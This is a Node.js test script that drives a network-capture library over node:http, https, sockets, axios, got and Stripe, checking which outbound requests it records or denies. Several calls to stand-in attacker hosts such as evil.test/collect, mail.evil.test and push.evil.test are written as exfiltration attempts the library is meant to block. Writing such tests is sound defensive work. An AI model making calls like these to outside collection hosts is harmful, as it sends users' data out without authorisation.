// Drives @shadow/capture with node:http itself and with clients that use it, and prints what came of it.
// Usage: node capture_http.mjs FOLDER, where FOLDER holds node_modules with axios, got and stripe.
import http, { request as named } from "node:http";
import http2 from "node:http2";
import https from "node:https";
import net from "node:net";
import tls from "node:tls";
import { createRequire } from "node:module";
import { resolve } from "node:path";
import { pathToFileURL } from "node:url";
import { waitBehind } from "../../../clients/typescript/src/errors.js";
import { captureFromEnvironment } from "../../../clients/typescript/src/index.js";

const require = createRequire(pathToFileURL(resolve(process.argv[2], "package.json")));
const axios = require("axios");
const Stripe = require("stripe");
const { default: got } = await import(pathToFileURL(require.resolve("got")));
const { PLAIN, SECURE, ELSEWHERE, ALLOWED } = process.env; // the target over http, and over https; two ports of this machine
const before = { request: http.request, get: https.get, named };
const capture = captureFromEnvironment();
const run = { run: "run_1", task: "pay", attempt: 2, event: "evt-1" };
const result = {};

async function outcome(work) {
  try {
    const { status, statusCode } = await work();
    return { status: status ?? statusCode };
  } catch (error) {
    const { name, message, code, after } = error;
    return { name, message, code, after, behind: waitBehind(error)?.after };
  }
}

/** Sends a body in two parts by a request of Node's, and reads the answer to its end. */
function sent(ask, ...parts) {
  return new Promise((done, failed) => {
    const request = ask((response) => response.resume().on("end", () => done(response)));
    request.on("error", failed);
    for (const part of parts) request.write(part);
    request.end();
  });
}

/** Whether something connects. */
function connected(socket) {
  return new Promise((done, failed) => {
    socket.once("error", failed).once("connect", () => {
      socket.destroy();
      done({ status: "connected" });
    });
  });
}

const undo = capture.install();
result.sameHttp = http.request === before.request && https.get === before.get && named === before.named;
await capture.run(run, async () => {
  const target = new URL(SECURE || PLAIN);
  const module = SECURE ? https : http;
  const place = { hostname: target.hostname, ...(target.port ? { port: target.port } : {}) };
  result.options = await outcome(() =>
    sent((listener) => module.request({ ...place, path: "/v1/options?a=1%2F2", method: "POST", headers: { "X-A": "b", Host: "lies.test" } }, listener), "ab", "c"),
  );
  result.url = await outcome(() => sent((listener) => module.request(new URL("/v1/url", target), { method: "PUT", headers: ["x-a", "1", "x-c", "2"] }, listener), "abc"));
  result.named = await outcome(() => sent((listener) => named(`${PLAIN}/v1/named`, listener)));
  result.get = await outcome(() => new Promise((done, failed) => module.get(`${target.origin}/v1/get`, (answer) => done(answer.resume())).on("error", failed)));
  result.axios = await outcome(() => axios.post(`${target.origin}/v1/axios`, { amount: 5 }));
  result.axiosRedirected = await outcome(() => axios.get(`${target.origin}/v1/redirect`));
  result.axiosWaited = await outcome(() => axios.get(`${target.origin}/v1/wait`, { validateStatus: () => true }));
  result.got = await outcome(() => got.post(`${target.origin}/v1/got`, { json: { amount: 5 }, retry: { limit: 0 } }));
  const stripe = new Stripe("sk_test_1", { ...(SECURE ? {} : { protocol: "http" }), host: target.hostname, ...(target.port ? { port: target.port } : {}), maxNetworkRetries: 0, telemetry: false });
  result.stripe = await outcome(() => stripe.transfers.create({ amount: 5, currency: "usd", destination: "acct_1" }).then(({ lastResponse }) => lastResponse));
  result.stripeWaited = await outcome(() => stripe.balance.retrieve().then(({ lastResponse }) => lastResponse));
  result.waited = await outcome(() => sent((listener) => module.request(`${target.origin}/v1/wait`, listener)));
  result.denied = await outcome(() => sent((listener) => https.request("https://evil.test/collect", listener)));
  result.socket = await outcome(() => sent((listener) => http.request({ socketPath: "/nowhere/evil.sock", path: "/" }, listener)));
  result.sockets = {
    port: await outcome(() => connected(net.connect(Number(ELSEWHERE), "127.0.0.1"))),
    options: await outcome(() => connected(net.createConnection({ port: Number(ELSEWHERE), host: "127.0.0.1" }))),
    late: await outcome(() => connected(new net.Socket().connect({ port: Number(ELSEWHERE) }))),
    mail: await outcome(() => connected(net.connect(25, "mail.evil.test"))),
    tls: await outcome(() => connected(tls.connect(465, "mail.evil.test"))),
    http2: await outcome(() => connected(http2.connect("https://push.evil.test"))),
    allowed: await outcome(() => connected(net.connect(Number(ALLOWED), "127.0.0.1"))),
  };
  result.axiosDenied = await outcome(() => axios.get("http://evil.test/collect"));
});
result.outside = await outcome(() => sent((listener) => http.request(`${PLAIN}/v1/wait`, listener)));
undo();
result.undone = http.request === before.request && https.get === before.get && named === before.named;
console.log(JSON.stringify(result));
process.exit(0);
